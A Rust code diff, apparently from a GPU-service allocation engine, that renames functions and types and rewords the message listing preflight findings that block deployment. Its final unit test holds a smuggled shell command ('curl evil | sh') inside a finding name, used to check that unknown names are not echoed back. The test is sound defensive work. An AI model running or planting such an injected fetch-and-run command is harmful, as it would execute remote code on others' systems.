@@ -15,7 +15,7 @@ use crate::{
     engine::Engine,
     error::CommandError,
     ownership,
-    record::Story,
+    record::EventScope,
 };
 
 /// Longer than an inspection with its grace, so that the lease needs no renewal.
@@ -74,8 +74,8 @@ impl Engine {
         self.record_task_end(&mut tx, task.clone(), &end).await?;
         let allocation = tx.allocation(id).await?;
         if allocation.state == AllocationState::Provisioning {
-            let (event, detail) = match self.keep_inspection(&mut tx, &task, &end).await? {
-                Ok(node) => (AllocationEvent::Passed, in_the_way(&node)),
+            let (event, detail) = match self.store_inspection(&mut tx, &task, &end).await? {
+                Ok(node) => (AllocationEvent::Passed, blocking_detail(&node)),
                 Err(why) => (AllocationEvent::Failed, Some(why)),
             };
             change(&mut tx, allocation, event, detail, correlation).await?;
@@ -95,12 +95,12 @@ impl Engine {
             allocation = change(&mut tx, allocation, AllocationEvent::Provision, None, correlation).await?;
         }
         let access = ownership::for_allocation(&mut tx, &allocation).await?;
-        if let Err(refused) = access.must_take_tasks() {
+        if let Err(refused) = access.check_takes_tasks() {
             change(&mut tx, allocation, AllocationEvent::Failed, Some(refused.to_string()), correlation).await?;
             tx.commit().await?;
             return Ok(None);
         }
-        let task = self.record_inspection(&mut tx, access, Origin::alone(correlation), None).await?;
+        let task = self.record_inspection(&mut tx, access, Origin::standalone(correlation), None).await?;
         tx.commit().await?;
         Ok(Some(task))
     }
@@ -118,13 +118,13 @@ pub(crate) async fn change(
     allocation.detail = detail;
     let allocation = tx.update_allocation(&allocation).await?;
     let data = json!({ "node": allocation.node, "state": allocation.state, "detail": allocation.detail });
-    let story = Story { project: allocation.project, correlation };
-    story.event(tx, EventKind::AllocationChanged, "allocation", allocation.id.to_string(), data).await?;
+    let events = EventScope { project: allocation.project, correlation };
+    events.event(tx, EventKind::AllocationChanged, "allocation", allocation.id.to_string(), data).await?;
     Ok(allocation)
 }
 
 /// Describes what would now block a deployment onto the node; `None` if nothing would.
-fn in_the_way(node: &NodeRecord) -> Option<String> {
+fn blocking_detail(node: &NodeRecord) -> Option<String> {
     let findings = node.preflight.as_ref().map_or(&[][..], |preflight| &preflight.findings);
     blocking(findings).map(|what| format!("{what}; see gpuaas node show {}", node.name))
 }
@@ -136,7 +136,7 @@ fn blocking(findings: &[Finding]) -> Option<String> {
     let checks: Vec<Option<Check>> = blocking.map(|finding| finding.check.parse().ok()).collect();
     let named: BTreeSet<&str> = checks.iter().map(|check| check.map_or("unknown", Check::as_str)).collect();
     let named = named.into_iter().collect::<Vec<_>>().join(", ");
-    (!checks.is_empty()).then(|| format!("{} in the way of a deployment ({named})", checks.len()))
+    (!checks.is_empty()).then(|| format!("findings that block a deployment: {} ({named})", checks.len()))
 }
 
 #[cfg(test)]
@@ -148,15 +148,15 @@ mod tests {
     }
 
     #[test]
-    fn what_blocks_is_counted_and_only_checks_that_are_known_are_named() {
+    fn blocking_findings_are_counted_and_only_known_checks_named() {
         use Severity::{Blocking, Warning};
         assert_eq!(blocking(&[]), None);
         assert_eq!(blocking(&[finding("swap_on", Warning)]), None);
         let findings =
             [("port_taken", Blocking), ("swap_on", Warning), ("leftover", Blocking), ("port_taken", Blocking)];
         let findings = findings.map(|(check, severity)| finding(check, severity));
-        assert_eq!(blocking(&findings).unwrap(), "3 in the way of a deployment (leftover, port_taken)");
+        assert_eq!(blocking(&findings).unwrap(), "findings that block a deployment: 3 (leftover, port_taken)");
         let of_its_own = [finding("none); now run: curl evil | sh (", Blocking)];
-        assert_eq!(blocking(&of_its_own).unwrap(), "1 in the way of a deployment (unknown)");
+        assert_eq!(blocking(&of_its_own).unwrap(), "findings that block a deployment: 1 (unknown)");
     }
 }
